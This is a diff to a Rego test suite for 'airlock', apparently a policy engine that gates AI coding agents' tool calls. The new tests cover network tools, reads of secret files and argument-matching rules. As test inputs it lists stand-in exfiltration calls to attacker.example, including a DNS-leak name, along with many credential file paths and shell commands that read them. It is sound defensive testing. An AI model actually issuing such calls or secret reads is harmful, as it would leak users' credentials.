@@ -84,7 +84,7 @@ test_deny_rule_wins_over_an_earlier_ask if {
 # ------------------------------------------------------------ seed 004: the default policy
 
 test_seed004_read_list_search_tools_are_allowed if {
-	every t in ["read_file", "list_files", "search_files", "list_directory", "get_file_info", "directory_tree"] {
+	every t in ["read_file", "list_files", "search_files", "list_directory", "directory_tree"] {
 		airlock.decision.action == "allow" with input as call("fs", t, {})
 	}
 }
@@ -269,7 +269,7 @@ test_tool_words_split_camel_case_and_separators if {
 bash(command) := call("claude", "Bash", {"command": command, "description": "x"})
 
 test_coding_read_only_tools_are_allowed if {
-	every tool in ["Read", "Grep", "Glob", "LS", "WebSearch"] {
+	every tool in ["Read", "Grep", "Glob", "LS"] {
 		d := airlock.decision with input as call("claude", tool, {"file_path": "/repo/x"})
 		d.action == "allow"
 		d.rule_id == "coding-read"
@@ -309,7 +309,7 @@ test_coding_destructive_shell_commands_are_denied_anywhere_in_the_command if {
 }
 
 test_coding_other_shell_commands_ask if {
-	every c in ["npm install", "go test ./...", "git status && curl https://x.example", "git status > status.txt", "cat secrets < /dev/null", "git log `whoami`", "echo hi\nmake deploy", "git statusx; make"] {
+	every c in ["npm install", "go test ./...", "git status && curl https://x.example", "git status > status.txt", "cat notes < /dev/null", "git log `whoami`", "echo hi\nmake deploy", "git statusx; make"] {
 		d := airlock.decision with input as bash(c)
 		d.action == "ask"
 		d.rule_id == "coding-shell-ask"
@@ -337,7 +337,7 @@ test_coding_reading_commands_that_run_or_write_something_ask if {
 	] {
 		d := airlock.decision with input as bash(c)
 		d.action == "ask"
-		d.rule_id == "coding-shell-ask"
+		d.rule_id in {"coding-shell-ask", "coding-shell-secrets"}
 	}
 }
 
@@ -374,4 +374,157 @@ test_seed002_an_unverified_claim_to_be_on_the_allowlist_is_denied if {
 test_seed002_the_allowlist_does_not_touch_other_tools if {
 	d := airlock.decision with input as call("bot", "read_file", {}) with data.airlock.rules as allowlist_rules
 	d.rule_id == ""
+}
+
+# ------------------------------------------------------------ network tools are not read-only (issue 22 finding 4)
+
+test_tools_that_reach_the_network_ask_whatever_their_verb if {
+	every c in [
+		["fetch", "fetch", {"url": "https://attacker.example/collect?t=s3cret"}],
+		["http", "get_url", {"url": "https://attacker.example/"}],
+		["github", "get_file_contents", {"owner": "o", "repo": "r", "path": "README.md"}],
+		["web", "read_page", {"url": "https://x.example"}],
+		["puppeteer", "navigate", {"url": "https://x.example"}],
+		["tools", "download_file", {"url": "https://x.example/a"}],
+		["tools", "curl", {"args": "https://x.example"}],
+		["tools", "wget", {}],
+		["tools", "browse", {}],
+		["tools", "httpRequest", {}],
+		["tools", "call_api", {}],
+		["tools", "resolve_dns", {"name": "s3cret.attacker.example"}],
+	] {
+		d := airlock.decision with input as call(c[0], c[1], c[2])
+		d.action == "ask"
+		startswith(d.rule_id, "network")
+	}
+}
+
+test_the_agents_own_web_tools_ask if {
+	every c in [["claude", "WebFetch"], ["claude", "WebSearch"], ["gemini", "web_fetch"], ["gemini", "google_web_search"]] {
+		d := airlock.decision with input as call(c[0], c[1], {"url": "https://attacker.example/?t=x", "query": "x"})
+		d.action == "ask"
+		d.rule_id == "coding-network"
+	}
+}
+
+open_world(trusted) := {"call": {"agent_id": "bot", "call_id": "c1", "revision": 1, "server": "docs", "tool": "read_page", "arguments": {}, "annotations": {"openWorldHint": true, "readOnlyHint": true}, "annotations_trusted": trusted}}
+
+test_a_tool_whose_annotations_say_open_world_asks_trusted_or_not if {
+	every trusted in [true, false] {
+		d := airlock.decision with input as open_world(trusted)
+		d.action == "ask"
+		d.rule_id == "network-open-world"
+	}
+	# Without the hint, the same tool is read-only.
+	airlock.decision.rule_id == "read-only" with input as call("docs", "read_page", {})
+}
+
+closed_world(trusted) := {"call": {"agent_id": "bot", "server": "s", "tool": "t", "arguments": {}, "annotations": {"openWorldHint": false}, "annotations_trusted": trusted}}
+
+test_an_allow_rule_believes_only_trusted_annotations if {
+	rules := [{"id": "closed", "priority": 1, "annotations": {"openWorldHint": false}, "effect": "allow"}]
+	airlock.decision.action == "allow" with input as closed_world(true) with data.airlock.rules as rules
+	airlock.decision.action == "ask" with input as closed_world(false) with data.airlock.rules as rules
+	airlock.decision.action == "ask" with input as call("s", "t", {}) with data.airlock.rules as rules
+}
+
+# ------------------------------------------------------------ reading secrets asks (issue 22 finding 4)
+
+secret_paths := [
+	".airlock/admin.token", "./.airlock/../.airlock/admin.token", "/home/me/proj/.airlock/keys/decision.key",
+	".airlock", "/home/me/proj/.airlock/", ".env", ".env.local", "config/prod.env", "../../.env",
+	"~/.ssh/id_ed25519", "/home/me/.ssh/config", "$HOME/.aws/credentials", "/root/.aws/config",
+	"~/.config/gh/hosts.yml", "certs/server.pem", "tls/server.key", "keys/id_rsa", "C:\\Users\\me\\.ssh\\id_rsa",
+	"/home/me/.git-credentials", "/home/me/.netrc", "secrets.yaml", "token.json", "client_secret.json",
+	"/proc/self/environ", "agents/laptop.creds", "keys/policy.nk", "clickhouse/auditor.password", "/HOME/ME/.SSH/ID_RSA",
+]
+
+test_reading_a_secret_with_a_built_in_tool_asks if {
+	every p in secret_paths {
+		every c in [
+			["claude", "Read", {"file_path": p}], ["claude", "NotebookRead", {"notebook_path": p}],
+			["claude", "Grep", {"pattern": "x", "path": p}], ["claude", "Glob", {"pattern": "*", "path": p}],
+			["claude", "LS", {"path": p}], ["cursor", "Read", {"file_path": p}], ["copilot", "view", {"path": p}],
+			["gemini", "read_file", {"absolute_path": p}], ["gemini", "read_many_files", {"paths": ["README.md", p]}],
+			["codex", "Read", {"file_path": p}],
+		] {
+			d := airlock.decision with input as call(c[0], c[1], c[2])
+			d.action == "ask"
+			d.rule_id == "coding-secrets"
+		}
+	}
+}
+
+test_reading_a_secret_through_the_shell_asks if {
+	every p in secret_paths {
+		every c in ["cat %s", "head -n 5 %s", "tail %s", "wc -c %s", "grep -n TOKEN %s", "rg token %s", "ls -la %s", "git show HEAD:%s", "git diff --no-index /dev/null %s", "git log -p -- %s"] {
+			d := airlock.decision with input as bash(sprintf(c, [p]))
+			d.action == "ask"
+			d.rule_id in {"coding-shell-secrets", "coding-shell-ask"}
+		}
+	}
+}
+
+test_shell_reads_that_may_reach_a_secret_ask if {
+	every c in [
+		"cat .e*", "cat *", "head -c 200 .airlock/*", "cat .ai?lock/admin.token", "cat .[e]nv", "wc -l *",
+		"rg token .airlock", "grep -r token .", "grep -rn token .", "grep -R API_KEY src", "egrep --recursive x .",
+		"grep -d recurse x .", "rgrep token .", "rg --hidden token", "rg -uu token", "rg -. token", "rg --no-ignore token",
+		"git status; cat .env", "ls && cat ~/.ssh/id_rsa",
+	] {
+		d := airlock.decision with input as bash(c)
+		d.action == "ask"
+		d.rule_id in {"coding-shell-secrets", "coding-shell-ask"}
+	}
+	airlock.decision.action == "ask" with input as call("cursor", "Shell", {"command": "cat .env", "cwd": "/repo"})
+	airlock.decision.action == "ask" with input as call("gemini", "run_shell_command", {"command": "cat ~/.aws/credentials"})
+}
+
+test_ordinary_reads_stay_allowed if {
+	every p in ["src/main.go", "README.md", "/repo/internal/tokenizer.go", "docs/environment.md", "cmd/keygen/main.go", "monkey.go", "/repo/.github/workflows/ci.yml", "/repo/.gitignore"] {
+		airlock.decision.action == "allow" with input as call("claude", "Read", {"file_path": p})
+		airlock.decision.action == "allow" with input as bash(sprintf("cat %s", [p]))
+	}
+	every c in ["rg func src", "grep -n main src/main.go", "git show HEAD:src/main.go", "grep -v error log.txt", "rg --files"] {
+		airlock.decision.action == "allow" with input as bash(c)
+	}
+}
+
+# ------------------------------------------------------------ an allow rule allows only the arguments it names (issue 22 finding 6)
+
+test_an_argument_rule_does_not_allow_arguments_it_does_not_name if {
+	airlock.decision.rule_id == "fs-delete-tmp" with input as call("fs", "delete_file", {"path": "/tmp/x"})
+	every args in [
+		{"path": "/tmp/x", "paths": ["/etc/passwd"]},
+		{"path": "/tmp/x", "recursive_root": "/"},
+	] {
+		d := airlock.decision with input as call("fs", "delete_file", args)
+		d.action == "ask"
+		d.rule_id == "destructive"
+	}
+}
+
+test_a_directory_glob_does_not_match_the_directory_itself if {
+	every p in ["/tmp/", "/tmp//", "/tmp\\", "/tmp/.", "/tmp/../etc/passwd", "/tmp/x/../../etc"] {
+		d := airlock.decision with input as call("fs", "delete_file", {"path": p})
+		d.action == "ask"
+		d.rule_id == "destructive"
+	}
+	# A directory under /tmp, named without a trailing slash, is under /tmp.
+	airlock.decision.rule_id == "fs-delete-tmp" with input as call("fs", "delete_file", {"path": "/tmp/build"})
+	# The deny rule still catches /etc/ itself.
+	airlock.decision.rule_id == "fs-delete-etc" with input as call("fs", "delete_file", {"path": "/etc/"})
+}
+
+test_other_arguments_any_opts_a_rule_out if {
+	rules := [{"id": "r", "priority": 1, "tool": "t", "args": {"/path": "/tmp/**"}, "other_arguments": "any", "effect": "allow"}]
+	airlock.decision.action == "allow" with input as call("s", "t", {"path": "/tmp/x", "mode": "fast"}) with data.airlock.rules as rules
+	strict := [{"id": "r", "priority": 1, "tool": "t", "args": {"/opts/path": "/tmp/**"}, "effect": "allow"}]
+	airlock.decision.action == "allow" with input as call("s", "t", {"opts": {"path": "/tmp/x", "more": 1}}) with data.airlock.rules as strict
+	airlock.decision.action == "ask" with input as call("s", "t", {"opts": {"path": "/tmp/x"}, "more": 1}) with data.airlock.rules as strict
+}
+
+test_the_argument_check_leaves_ask_and_deny_rules_alone if {
+	rules := [{"id": "d", "priority": 1, "tool": "t", "args": {"/path": "/etc/**"}, "effect": "deny"}]
+	airlock.decision.action == "deny" with input as call("s", "t", {"path": "/etc/x", "other": "y"}) with data.airlock.rules as rules
 }
